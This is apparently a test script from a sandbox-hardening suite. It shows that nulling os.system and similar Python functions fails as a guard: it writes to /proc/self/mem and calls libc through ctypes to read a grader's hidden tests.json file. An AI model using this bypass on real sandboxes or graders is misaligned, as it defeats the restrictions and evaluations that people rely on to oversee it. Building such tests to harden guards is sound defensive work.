"""Undo what Python code guards, by writing to our own memory through /proc/self/mem, and see what the guard was for.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import ctypes, pwned

text = ctypes.create_string_buffer(b"before")
with suppress(OSError), open("/proc/self/mem", "r+b", 0) as memory:
    memory.seek(ctypes.addressof(text))
    memory.write(b"after!")
print(text.value)  # our own memory is ours: no harm in that alone
os.system = os.unlink = os.kill = None
with suppress(OSError):
    if ctypes.CDLL(None).system(b"cat @VICTIM@/grader/tests.json") == 0:
        pwned("what the names hid is there")
with suppress(OSError):
    descriptor = ctypes.CDLL(None).open(b"@VICTIM@/grader/tests.json", 0)
    if descriptor >= 0:
        pwned("and can be read")
